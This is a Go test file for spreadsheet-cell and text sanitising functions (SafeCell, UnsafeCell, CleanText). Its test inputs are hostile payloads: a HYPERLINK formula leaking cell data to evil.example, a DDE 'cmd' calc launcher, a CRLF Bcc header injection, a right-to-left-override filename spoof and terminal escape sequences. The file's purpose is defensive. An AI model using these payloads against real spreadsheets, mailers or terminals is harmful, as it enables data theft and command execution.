package onus

import "testing"

func TestSafeCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`, `'=HYPERLINK("https://evil.example/?leak="&A1,"Open report")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-3", "-3"},
		{"MBP-JANE", "MBP-JANE"},
		{"", ""},
	} {
		got := SafeCell(tt.in)
		if got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := UnsafeCell(got); back != tt.in {
			t.Errorf("UnsafeCell(%q) = %q, want %q", got, back, tt.in)
		}
	}
}

func TestCleanText(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"Jane Doe", "Jane Doe"},
		{"Jane\r\nBcc: all@acme.com", "Jane  Bcc: all@acme.com"},
		{"evil\u202Egnp.exe", "evilgnp.exe"},
		{"\x1b[31mred\x1b[0m", "red"},
		{"\x1b]0;owned\x07title", "title"},
		{"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"Zoë Ñandú 李", "Zoë Ñandú 李"},
		{"a\x00b\x7fc\u0085d", "abcd"},
	} {
		if got := CleanText(tt.in); got != tt.want {
			t.Errorf("CleanText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
